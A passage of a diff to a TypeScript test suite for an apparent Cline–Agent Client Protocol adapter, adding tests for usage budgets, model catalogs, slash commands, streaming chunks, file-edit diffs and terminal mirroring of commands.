+            session: { soft: { costUsd: 0.5 }, hard: { costUsd: 2 } },
+            daily: { soft: { tokens: 400 }, hard: { tokens: 500 } },
+          },
+          usage,
+        ),
+      ).toEqual({ soft: ["session", "daily"], hard: ["daily"] });
+      expect(checkBudgets({}, usage)).toEqual({ soft: [], hard: [] });
     });
+  });
 
-    it("should create a current_mode_update notification for act mode", () => {
-      const notification = createCurrentModeUpdate("session-456", "act");
-      expect(notification).toEqual({
-        sessionId: "session-456",
-        update: {
-          sessionUpdate: "current_mode_update",
-          currentModeId: "act",
-        },
-      });
+  describe("DailyUsageStore", () => {
+    it("should add up spending per day and keep only recent days", () => {
+      const store = new DailyUsageStore(fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-day-")));
+      store.add("2026-01-01", { costUsd: 1, tokens: 10 });
+      store.add("2026-01-01", { costUsd: 2, tokens: 20 });
+      expect(store.get("2026-01-01")).toEqual({ costUsd: 3, tokens: 30 });
+
+      for (let day = 1; day <= 31; day++) {
+        store.add(`2026-02-${String(day).padStart(2, "0")}`, { costUsd: 1, tokens: 1 });
+      }
+      expect(store.get("2026-01-01")).toEqual({ costUsd: 0, tokens: 0 });
     });
   });
 });
 
-describe("parseToolInfo()", () => {
-  it("should parse read_file tool info", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.ASK,
-      ask: ClineAsk.TOOL,
-      text: JSON.stringify({
-        tool: "read_file",
-        path: "/path/to/file.ts",
-      }),
+describe("Model catalog", () => {
+  function jsonFetch(body: unknown) {
+    return vi
+      .fn()
+      .mockResolvedValue({ ok: true, json: async () => body }) as unknown as typeof fetch;
+  }
+
+  it("should list Ollama models from the configured server", async () => {
+    const fakeFetch = jsonFetch({ models: [{ name: "qwen2.5-coder:7b" }, { name: "llama3" }] });
+    const catalog = new ModelCatalog({ fetch: fakeFetch });
+
+    const models = await catalog.listModels(createMockClineClient(), "OLLAMA", {
+      ollamaBaseUrl: "http://gpu-box:11434",
     });
 
-    expect(toolInfo.type).toBe("read_file");
-    expect(toolInfo.path).toBe("/path/to/file.ts");
+    expect(models.map((m) => m.modelId)).toEqual(["qwen2.5-coder:7b", "llama3"]);
+    expect(vi.mocked(fakeFetch).mock.calls[0][0]).toBe("http://gpu-box:11434/api/tags");
   });
 
-  it("should parse write_to_file tool info", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.ASK,
-      ask: ClineAsk.TOOL,
-      text: JSON.stringify({
-        tool: "write_to_file",
-        path: "/path/to/new.ts",
-        content: "const x = 1;",
+  it("should list LM Studio models from its OpenAI-style endpoint", async () => {
+    const fakeFetch = jsonFetch({ data: [{ id: "qwen2.5-7b-instruct" }] });
+    const catalog = new ModelCatalog({ fetch: fakeFetch });
+
+    const models = await catalog.listModels(createMockClineClient(), "lmstudio");
+
+    expect(models.map((m) => m.modelId)).toEqual(["qwen2.5-7b-instruct"]);
+    expect(vi.mocked(fakeFetch).mock.calls[0][0]).toBe("http://localhost:1234/v1/models");
+  });
+
+  it("should use Cline's model RPCs for hosted providers", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.Models.refreshGroqModelsRpc).mockResolvedValue({
+      models: {
+        "llama-3.3-70b-versatile": { name: "Llama 3.3 70B", supportsPromptCache: false, tiers: [] },
+      },
+    });
+    vi.mocked(clineClient.Models.refreshOpenAiModels).mockResolvedValue({ values: ["my-model"] });
+    const catalog = new ModelCatalog();
+
+    expect(await catalog.listModels(clineClient, "groq")).toEqual([
+      { modelId: "llama-3.3-70b-versatile", name: "Llama 3.3 70B" },
+    ]);
+    expect(
+      await catalog.listModels(clineClient, "openai", {
+        openAiBaseUrl: "https://llm.internal/v1",
+        openAiApiKey: "sk-test",
       }),
+    ).toEqual([{ modelId: "my-model", name: "my-model" }]);
+    expect(clineClient.Models.refreshOpenAiModels).toHaveBeenCalledWith({
+      baseUrl: "https://llm.internal/v1",
+      apiKey: "sk-test",
     });
+  });
 
-    expect(toolInfo.type).toBe("write_to_file");
-    expect(toolInfo.path).toBe("/path/to/new.ts");
-    expect(toolInfo.input).toHaveProperty("content");
+  it("should reuse a listing until it is cleared", async () => {
+    const fakeFetch = jsonFetch({ models: [{ name: "llama3" }] });
+    const catalog = new ModelCatalog({ fetch: fakeFetch });
+    const clineClient = createMockClineClient();
+
+    await catalog.listModels(clineClient, "ollama");
+    await catalog.listModels(clineClient, "ollama");
+    expect(fakeFetch).toHaveBeenCalledTimes(1);
+
+    catalog.clear();
+    await catalog.listModels(clineClient, "ollama");
+    expect(fakeFetch).toHaveBeenCalledTimes(2);
   });
 
-  it("should parse execute_command tool info", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.ASK,
-      ask: ClineAsk.COMMAND,
-      text: JSON.stringify({
-        tool: "execute_command",
-        command: "npm run build",
-      }),
+  it("should fall back to the static list when the listing fails", async () => {
+    const clineClient = createMockClineClient();
+    const catalog = new ModelCatalog({
+      fetch: vi.fn().mockRejectedValue(new Error("ECONNREFUSED")) as unknown as typeof fetch,
     });
 
-    expect(toolInfo.type).toBe("execute_command");
-    expect(toolInfo.input.command).toBe("npm run build");
+    expect(await catalog.listModels(clineClient, "ollama")).toEqual([]);
+    expect((await catalog.listModels(clineClient, "anthropic")).length).toBeGreaterThan(0);
   });
 
-  it("should generate appropriate title", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.ASK,
-      ask: ClineAsk.TOOL,
-      text: JSON.stringify({
-        tool: "read_file",
-        path: "/path/to/file.ts",
+  it("should populate the session's model picker from the provider", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.State.getLatestState).mockResolvedValue({
+      stateJson: JSON.stringify({
+        apiConfiguration: { planModeApiProvider: "OLLAMA", planModeApiModelId: "llama3" },
       }),
     });
+    const agent = new ClineAcpAgent({
+      clineClient,
+      autoStart: false,
+      modelCatalog: new ModelCatalog({ fetch: jsonFetch({ models: [{ name: "llama3" }] }) }),
+    });
+    agent.setClient(createMockConnection());
 
-    expect(toolInfo.title).toContain("read");
+    const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+
+    expect(session.models?.availableModels).toEqual([
+      { modelId: "ollama:llama3", name: "Ollama: llama3" },
+    ]);
   });
+});
 
-  it("should extract content from tool data", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.SAY,
-      say: ClineSay.TOOL,
-      text: JSON.stringify({
-        tool: "read_file",
-        path: "/path/to/file.ts",
-        content: "const x = 1;\nexport default x;",
+describe("Providers", () => {
+  it("should list models from every provider with credentials", async () => {
+    const clineClient = createMockClineClient();
+    vi.mocked(clineClient.State.getLatestState).mockResolvedValue({
+      stateJson: JSON.stringify({
+        mode: "plan",
+        apiConfiguration: {
+          planModeApiProvider: "ANTHROPIC",
+          planModeApiModelId: "claude-sonnet-4-20250514",
+          apiKey: "sk-ant",
+          ollamaBaseUrl: "http://localhost:11434",
+        },
+      }),
+    });
+    const agent = new ClineAcpAgent({
+      clineClient,
+      autoStart: false,
+      modelCatalog: new ModelCatalog({
+        fetch: vi.fn().mockResolvedValue({
+          ok: true,
+          json: async () => ({ models: [{ name: "qwen2.5-coder" }] }),
+        }) as unknown as typeof fetch,
       }),
     });
+    agent.setClient(createMockConnection());
 
-    expect(toolInfo.content).toBe("const x = 1;\nexport default x;");
+    const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+    const modelIds = session.models?.availableModels.map((model) => model.modelId);
+
+    expect(session.models?.currentModelId).toBe("anthropic:claude-sonnet-4-20250514");
+    expect(modelIds).toContain("anthropic:claude-sonnet-4-20250514");
+    expect(modelIds).toContain("ollama:qwen2.5-coder");
+    // No OpenRouter key, so no OpenRouter models
+    expect(modelIds?.some((id) => id.startsWith("openrouter:"))).toBe(false);
   });
 
-  it("should not extract content if it looks like a path", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.SAY,
-      say: ClineSay.TOOL,
-      text: JSON.stringify({
-        tool: "read_file",
-        path: "src/file.ts",
-        content: "/Users/jason/project/src/file.ts", // Absolute path, not content
-      }),
+  it("should only treat known providers as id prefixes", () => {
+    expect(parseModelOptionId("anthropic:claude-sonnet-4")).toEqual({
+      provider: "anthropic",
+      modelId: "claude-sonnet-4",
+    });
+    expect(parseModelOptionId("qwen2.5-coder:7b")).toEqual({
+      provider: undefined,
+      modelId: "qwen2.5-coder:7b",
     });
+    expect(parseModelOptionId("anthropic/claude-sonnet-4")).toEqual({
+      provider: undefined,
+      modelId: "anthropic/claude-sonnet-4",
+    });
+  });
 
-    expect(toolInfo.content).toBeUndefined();
+  it("should read the model from the provider's own field", () => {
+    expect(
+      getModeModel(
+        { actModeApiProvider: "LMSTUDIO", actModeLmStudioModelId: "qwen2.5-7b-instruct" },
+        "act",
+      ),
+    ).toEqual({ provider: "lmstudio", modelId: "qwen2.5-7b-instruct" });
   });
+});
 
-  it("should extract diff from tool data", () => {
-    const toolInfo = parseToolInfo({
-      ts: Date.now(),
-      type: ClineMessageType.SAY,
-      say: ClineSay.TOOL,
-      text: JSON.stringify({
-        tool: "replace_in_file",
-        path: "/path/to/file.ts",
-        diff: "-const x = 1;\n+const x = 2;",
-      }),
+describe("parseSlashCommand()", () => {
+  it("should split the command name from its arguments", () => {
+    expect(parseSlashCommand("/plan Add a login page")).toEqual({
+      name: "plan",
+      args: "Add a login page",
     });
+    expect(parseSlashCommand("  /cancel-command  ")).toEqual({ name: "cancel-command", args: "" });
+  });
 
-    expect(toolInfo.diff).toBe("-const x = 1;\n+const x = 2;");
+  it("should ignore text that isn't a command", () => {
+    expect(parseSlashCommand("Fix /usr/bin path")).toBeNull();
+    expect(parseSlashCommand("/")).toBeNull();
   });
 });
 
-describe("Permission handling", () => {
-  it("should request permission from ACP client for tool calls", async () => {
-    const agent = new ClineAcpAgent({ autoStart: false });
-    const mockConnection = createMockConnection();
-    agent.setClient(mockConnection);
+describe("toIncrementalChunk()", () => {
+  const chunk = (text: string): SessionNotification => ({
+    sessionId: "session-123",
+    update: { sessionUpdate: "agent_message_chunk", content: { type: "text", text } },
+  });
 
-    await agent.initialize({
-      protocolVersion: 1,
-      clientCapabilities: {},
-    });
+  it("should return only the unsent suffix", () => {
+    expect(toIncrementalChunk(chunk("Hello world"), "Hello")).toEqual(chunk(" world"));
+  });
 
-    await agent.newSession({
-      cwd: "/test/path",
-      mcpServers: [],
-    });
+  it("should return null when nothing new was added", () => {
+    expect(toIncrementalChunk(chunk("Hello"), "Hello")).toBeNull();
+  });
 
-    // Simulate a prompt that triggers a tool call requiring permission
-    // This would be tested through the full prompt flow
+  it("should return null when the text was rewritten", () => {
+    expect(toIncrementalChunk(chunk("Goodbye"), "Hello")).toBeNull();
+  });
 
-    // When permission is requested, verify the structure
-    // This tests the integration point between Cline ask messages and ACP permission requests
+  it("should pass through non-text updates unchanged", () => {
+    const notification = createToolCallUpdate("session-123", "1", "completed");
+    expect(toIncrementalChunk(notification, "")).toBe(notification);
   });
+});
 
-  it("should auto-approve in bypassPermissions mode", async () => {
-    const agent = new ClineAcpAgent({ autoStart: false });
-    const mockConnection = createMockConnection();
-    agent.setClient(mockConnection);
+describe("File edit diffs", () => {
+  const original = "line 1\nline 2\nline 3\n";
+  const diff = ["------- SEARCH", "line 2", "=======", "line two", "+++++++ REPLACE"].join("\n");
 
-    await agent.initialize({
-      protocolVersion: 1,
-      clientCapabilities: {},
+  describe("applySearchReplaceDiff()", () => {
+    it("should apply SEARCH/REPLACE blocks", () => {
+      expect(applySearchReplaceDiff(original, diff)).toBe("line 1\nline two\nline 3\n");
     });
 
-    const session = await agent.newSession({
-      cwd: "/test/path",
-      mcpServers: [],
+    it("should accept the legacy markers", () => {
+      const legacy = ["<<<<<<< SEARCH", "line 2", "=======", "line two", ">>>>>>> REPLACE"].join(
+        "\n",
+      );
+      expect(applySearchReplaceDiff(original, legacy)).toBe("line 1\nline two\nline 3\n");
     });
 
-    await agent.setSessionMode({
-      sessionId: session.sessionId,
-      modeId: "bypassPermissions",
+    it("should recover the original from an already edited file in reverse", () => {
+      expect(applySearchReplaceDiff("line 1\nline two\nline 3\n", diff, true)).toBe(original);
     });
 
-    // In bypassPermissions mode, tool calls should not trigger permission requests
-    // This is handled by Cline's yolo mode
+    it("should return null for non-matching or malformed diffs", () => {
+      expect(applySearchReplaceDiff("something else", diff)).toBeNull();
+      expect(applySearchReplaceDiff(original, "------- SEARCH\nline 2\n=======")).toBeNull();
+      expect(applySearchReplaceDiff(original, "not a diff")).toBeNull();
+    });
   });
 
-  it("should auto-approve edits in acceptEdits mode", async () => {
-    const agent = new ClineAcpAgent({ autoStart: false });
-    const mockConnection = createMockConnection();
-    agent.setClient(mockConnection);
+  describe("buildFileEditDiff()", () => {
+    it("should show a new file with no original content", () => {
+      const toolInfo = {
+        type: "newFileCreated",
+        title: "",
+        input: {},
+        path: "/p/new.ts",
+        content: "export {};",
+      };
 
-    await agent.initialize({
-      protocolVersion: 1,
-      clientCapabilities: {},
+      expect(buildFileEditDiff(toolInfo, null)).toEqual({
+        path: "/p/new.ts",
+        oldText: null,
+        newText: "export {};",
+      });
     });
 
-    const session = await agent.newSession({
-      cwd: "/test/path",
-      mcpServers: [],
-    });
+    it("should keep new file content that starts with a comment", () => {
+      const content = "// header\nexport {};\n";
+      const toolInfo = parseToolInfo(
+        {
+          ts: 1,
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({ tool: "newFileCreated", path: "src/new.ts", content }),
+        },
+        "/p",
+      );
 
-    await agent.setSessionMode({
-      sessionId: session.sessionId,
-      modeId: "acceptEdits",
+      expect(toolInfo.path).toBe("/p/src/new.ts");
+      expect(buildFileEditDiff(toolInfo, null)).toEqual({
+        path: "/p/src/new.ts",
+        oldText: null,
+        newText: content,
+      });
     });
 
-    // In acceptEdits mode, file edits should be auto-approved
-    // Other operations should still require permission
-  });
-});
-
-describe("Partial message streaming", () => {
-  it("should convert partial messages to streaming chunks", () => {
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
+    it("should keep write_to_file content that starts with a block comment", () => {
+      const content = "/* header */\nexport {};\n";
+      const toolInfo = parseToolInfo({
+        ts: 1,
         type: ClineMessageType.SAY,
-        say: ClineSay.TEXT,
-        text: "Partial text...",
-        partial: true,
-      },
-      "session-123",
-    );
+        say: ClineSay.TOOL,
+        text: JSON.stringify({ tool: "write_to_file", path: "/p/a.ts", content }),
+      });
 
-    expect(notification).not.toBeNull();
-    expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
-  });
+      expect(toolInfo.path).toBe("/p/a.ts");
+      expect(toolInfo.content).toBe(content);
+    });
 
-  it("should handle reasoning partial messages", () => {
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.SAY,
-        say: ClineSay.REASONING,
-        text: "Thinking...",
-        partial: true,
-      },
-      "session-123",
-    );
+    it("should ignore tools that don't edit files", () => {
+      const toolInfo = {
+        type: "searchFiles",
+        title: "",
+        input: {},
+        path: "/p",
+        content: "results",
+      };
 
-    expect(notification).not.toBeNull();
-    expect(notification?.update.sessionUpdate).toBe("agent_thought_chunk");
+      expect(buildFileEditDiff(toolInfo, "")).toBeNull();
+    });
   });
 
-  it("should filter out tool JSON from partial text messages", () => {
-    // This is a regression test - tool JSON was being displayed to users
-    const toolJson = JSON.stringify({
-      tool: "readFile",
-      path: "README.md",
-      content: "/Users/test/project/README.md",
-      operationIsLocatedInWorkspace: true,
+  describe("tool call content", () => {
+    function editAsk(filePath: string) {
+      return {
+        async *[Symbol.asyncIterator]() {
+          yield {
+            stateJson: JSON.stringify({
+              clineMessages: [
+                {
+                  ts: 1000,
+                  type: "ask",
+                  ask: "tool",
+                  text: JSON.stringify({ tool: "editedExistingFile", path: filePath, diff }),
+                },
+              ],
+            }),
+          };
+        },
+      };
+    }
+
+    function findToolCall(connection: AgentSideConnection) {
+      return vi
+        .mocked(connection.sessionUpdate)
+        .mock.calls.map(([notification]) => notification.update)
+        .find((update) => update.sessionUpdate === "tool_call");
+    }
+
+    it("should read the original from disk and apply the diff", async () => {
+      const filePath = path.join(
+        fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-diff-")),
+        "a.txt",
+      );
+      fs.writeFileSync(filePath, original);
+      const clineClient = createMockClineClient();
+      const connection = createMockConnection();
+      vi.mocked(clineClient.State.subscribeToState).mockReturnValue(editAsk(filePath));
+      const agent = new ClineAcpAgent({ clineClient });
+      agent.setClient(connection);
+
+      const { sessionId } = await agent.newSession({ cwd: "/p", mcpServers: [] });
+      await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Edit" }] });
+
+      expect(findToolCall(connection)).toMatchObject({
+        content: [
+          {
+            type: "diff",
+            path: filePath,
+            oldText: original,
+            newText: "line 1\nline two\nline 3\n",
+          },
+        ],
+      });
+    });
+
+    it("should prefer the client's buffer when it can read files", async () => {
+      const clineClient = createMockClineClient();
+      const connection = createMockConnection();
+      const readTextFile = vi.fn().mockResolvedValue({ content: "unsaved\nline 2\n" });
+      (connection as unknown as { readTextFile: typeof readTextFile }).readTextFile = readTextFile;
+      vi.mocked(clineClient.State.subscribeToState).mockReturnValue(editAsk("/p/a.txt"));
+      const agent = new ClineAcpAgent({ clineClient });
+      agent.setClient(connection);
+      await agent.initialize({
+        protocolVersion: 1,
+        clientCapabilities: { fs: { readTextFile: true, writeTextFile: false } },
+      });
+
+      const { sessionId } = await agent.newSession({ cwd: "/p", mcpServers: [] });
+      await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Edit" }] });
+
+      expect(readTextFile).toHaveBeenCalledWith({ sessionId, path: "/p/a.txt" });
+      expect(findToolCall(connection)).toMatchObject({
+        content: [{ type: "diff", oldText: "unsaved\nline 2\n", newText: "unsaved\nline two\n" }],
+      });
     });
 
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.SAY,
-        say: ClineSay.TEXT,
-        text: toolJson,
-        partial: true,
-      },
-      "session-123",
-    );
+    it("should fall back to the raw diff when the blocks don't match", async () => {
+      const clineClient = createMockClineClient();
+      const connection = createMockConnection();
+      vi.mocked(clineClient.State.subscribeToState).mockReturnValue(
+        editAsk("/nonexistent/cline-acp/a.txt"),
+      );
+      const agent = new ClineAcpAgent({ clineClient });
+      agent.setClient(connection);
 
-    expect(notification).toBeNull();
-  });
+      const { sessionId } = await agent.newSession({ cwd: "/p", mcpServers: [] });
+      await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Edit" }] });
 
-  it("should filter out tool JSON with operationIsLocatedInWorkspace from non-partial messages", () => {
-    // Specific test for the JSON format seen in production
-    const toolJson = JSON.stringify({
-      tool: "readFile",
-      path: "README.md",
-      content: "/Users/jasonconigliari/Projects/LLM/claude-code-acp/README.md",
-      operationIsLocatedInWorkspace: true,
+      expect(findToolCall(connection)).toMatchObject({
+        content: [{ type: "diff", newText: diff }],
+      });
     });
+  });
+});
 
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.SAY,
-        say: ClineSay.TEXT,
-        text: toolJson,
-        partial: false, // Non-partial message
+describe("Command terminals", () => {
+  // Terminal handle stand-in that "exits" like the follower process: once the exit file
+  // is written, or when stop() is called to simulate the user stopping it
+  function createMockTerminal(params: CreateTerminalRequest) {
+    const exitPath = params.args![3];
+    let stopped = false;
+    return {
+      id: "term-1",
+      params,
+      stop: () => {
+        stopped = true;
+      },
+      waitForExit: vi.fn(async () => {
+        while (!stopped && !fs.existsSync(exitPath)) {
+          await new Promise((resolve) => setTimeout(resolve, 5));
+        }
+        return { exitCode: 0 };
+      }),
+      kill: vi.fn().mockResolvedValue({}),
+      release: vi.fn().mockResolvedValue(undefined),
+    };
+  }
+
+  async function setup(
+    messages: (terminal: () => ReturnType<typeof createMockTerminal>) => AsyncIterable<StateUpdate>,
+  ) {
+    const clineClient = createMockClineClient();
+    const connection = createMockConnection();
+    let terminal: ReturnType<typeof createMockTerminal> | undefined;
+    (connection as unknown as Record<string, unknown>).createTerminal = vi.fn(
+      async (params: CreateTerminalRequest) => {
+        terminal = createMockTerminal(params);
+        return terminal;
       },
-      "session-123",
     );
+    vi.mocked(clineClient.State.subscribeToState).mockReturnValue(messages(() => terminal!));
+
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(connection);
+    await agent.initialize({ protocolVersion: 1, clientCapabilities: { terminal: true } });
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Run tests" }] });
+
+    const updates = vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map(([notification]) => notification.update);
+    return { clineClient, connection, updates, terminal: () => terminal! };
+  }
+
+  const state = (clineMessages: unknown[]) => ({ stateJson: JSON.stringify({ clineMessages }) });
+  const commandSay = { ts: 100, type: "say", say: "command", text: "npm test" };
+  const outputSay = { ts: 101, type: "say", say: "command_output", text: "1 passed" };
+  const completion = { ts: 102, type: "ask", ask: "completion_result", text: "" };
+
+  it("should mirror an auto-approved command into a client terminal", async () => {
+    const { updates, terminal } = await setup(() => ({
+      async *[Symbol.asyncIterator]() {
+        yield state([commandSay]);
+        yield state([commandSay, outputSay]);
+        yield state([commandSay, outputSay, completion]);
+      },
+    }));
 
-    expect(notification).toBeNull();
+    expect(terminal().params).toMatchObject({
+      command: process.execPath,
+      cwd: "/project",
+    });
+    expect(updates).toContainEqual(
+      expect.objectContaining({ sessionUpdate: "tool_call", toolCallId: "100", title: "npm test" }),
+    );
+    expect(updates).toContainEqual({
+      sessionUpdate: "tool_call_update",
+      toolCallId: "100",
+      status: "in_progress",
+      content: [{ type: "terminal", terminalId: "term-1" }],
+    });
+    expect(updates).toContainEqual(
+      expect.objectContaining({ toolCallId: "100", status: "completed" }),
+    );
+    // Output goes to the terminal, not the chat
+    expect(updates).not.toContainEqual(
+      expect.objectContaining({ content: { type: "text", text: "1 passed" } }),
+    );
+    expect(terminal().release).toHaveBeenCalled();
   });
 
-  it("should filter out SAY TOOL messages from partial stream", () => {
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.SAY,
-        say: ClineSay.TOOL,
-        text: JSON.stringify({ tool: "readFile", path: "test.ts" }),
-        partial: true,
+  it("should cancel the background command when the terminal is stopped", async () => {
+    const { clineClient, updates } = await setup((terminal) => ({
+      async *[Symbol.asyncIterator]() {
+        yield state([commandSay]);
+        terminal().stop();
+        await new Promise((resolve) => setTimeout(resolve, 20));
+        yield state([commandSay, completion]);
       },
-      "session-123",
-    );
+    }));
 
-    expect(notification).toBeNull();
+    expect(clineClient.Task.cancelBackgroundCommand).toHaveBeenCalled();
+    expect(updates).toContainEqual(
+      expect.objectContaining({ toolCallId: "100", status: "failed" }),
+    );
   });
 
-  it("should filter out ASK TOOL messages from partial stream", () => {
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.ASK,
-        ask: ClineAsk.TOOL,
-        text: JSON.stringify({ tool: "write_to_file", path: "test.ts" }),
-        partial: true,
-      },
-      "session-123",
-    );
+  describe("CommandTerminalMirror.finish()", () => {
+    // A terminal whose follower never reports an exit
+    async function startStuckMirror() {
+      const connection = createMockConnection();
+      const terminal = {
+        id: "term-1",
+        waitForExit: vi.fn(() => new Promise(() => {})),
+        kill: vi.fn().mockResolvedValue({}),
+        release: vi.fn().mockResolvedValue(undefined),
+      };
+      let params: CreateTerminalRequest | undefined;
+      (connection as unknown as Record<string, unknown>).createTerminal = vi.fn(
+        async (request: CreateTerminalRequest) => {
+          params = request;
+          return terminal;
+        },
+      );
+      const mirror = await CommandTerminalMirror.start(connection, "s", "/project", () => {});
+      return { mirror, terminal, pidPath: params!.args![4] };
+    }
 
-    expect(notification).toBeNull();
-  });
+    it("should stop the follower by its pid when it doesn't exit in time", async () => {
+      const { mirror, terminal, pidPath } = await startStuckMirror();
+      const follower = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"]);
+      const exited = new Promise((resolve) => follower.once("exit", resolve));
+      fs.writeFileSync(pidPath, String(follower.pid));
 
-  it("should filter out retry JSON from partial messages", () => {
-    const retryJson = JSON.stringify({
-      attempt: 1,
-      maxAttempts: 3,
-      delaySeconds: 0,
+      await mirror.finish(0, 10);
+
+      await expect(exited).resolves.toBeDefined();
+      expect(terminal.kill).toHaveBeenCalled();
+      expect(terminal.release).toHaveBeenCalled();
     });
 
-    const notification = clinePartialToAcpNotification(
-      {
-        ts: Date.now(),
-        type: ClineMessageType.SAY,
-        say: ClineSay.TEXT,
-        text: retryJson,
-        partial: true,
+    it("should stop waiting when the command is cancelled", async () => {
+      const { mirror, terminal } = await startStuckMirror();
+      const started = Date.now();
+
+      const finishing = mirror.finish();
+      await mirror.kill();
+      await finishing;
+
+      expect(Date.now() - started).toBeLessThan(1000);
+      expect(terminal.release).toHaveBeenCalled();
+    });
+  });
+
+  it("should keep command output as text without the terminal capability", async () => {
+    const clineClient = createMockClineClient();
+    const connection = createMockConnection();
+    vi.mocked(clineClient.State.subscribeToState).mockReturnValue({
+      async *[Symbol.asyncIterator]() {
+        yield state([commandSay, outputSay, completion]);
       },
-      "session-123",
-    );
+    });
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(connection);
 
-    expect(notification).toBeNull();
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Run tests" }] });
+
+    expect(vi.mocked(connection.sessionUpdate)).toHaveBeenCalledWith(
+      expect.objectContaining({
+        update: {
+          sessionUpdate: "agent_message_chunk",
+          content: { type: "text", text: "1 passed" },
+        },
+      }),
+    );
   });
 });
 
@@ -2147,6 +4868,26 @@ describe("Cost Tracking", () => {
     });
   });
 
+  describe("extractCurrentModelId()", () => {
+    it("should return the model configured for the current mode", () => {
+      const apiConfiguration = {
+        planModeOpenRouterModelId: "plan-model",
+        actModeApiModelId: "act-model",
+      };
+      expect(extractCurrentModelId(JSON.stringify({ mode: "plan", apiConfiguration }))).toBe(
+        "plan-model",
+      );
+      expect(extractCurrentModelId(JSON.stringify({ mode: "act", apiConfiguration }))).toBe(
+        "act-model",
+      );
+    });
+
+    it("should return undefined when no model is configured", () => {
+      expect(extractCurrentModelId("{}")).toBeUndefined();
+      expect(extractCurrentModelId("not json")).toBeUndefined();
+    });
+  });
+
   describe("ClineSession cost fields", () => {
     it("should initialize session with zero costs", async () => {
       const mockClient = createMockClineClient();
@@ -2248,35 +4989,15 @@ describe("Streaming Integration Tests", () => {
       ];
 
       // Create mock client with streaming state updates
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       const mockConnection = {
         sessionUpdate: vi.fn().mockResolvedValue(undefined),
@@ -2345,35 +5066,15 @@ describe("Streaming Integration Tests", () => {
         },
       ];
 
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       const mockConnection = {
         sessionUpdate: vi.fn().mockResolvedValue(undefined),
@@ -2402,6 +5103,113 @@ describe("Streaming Integration Tests", () => {
     });
   });
 
+  describe("Usage reporting", () => {
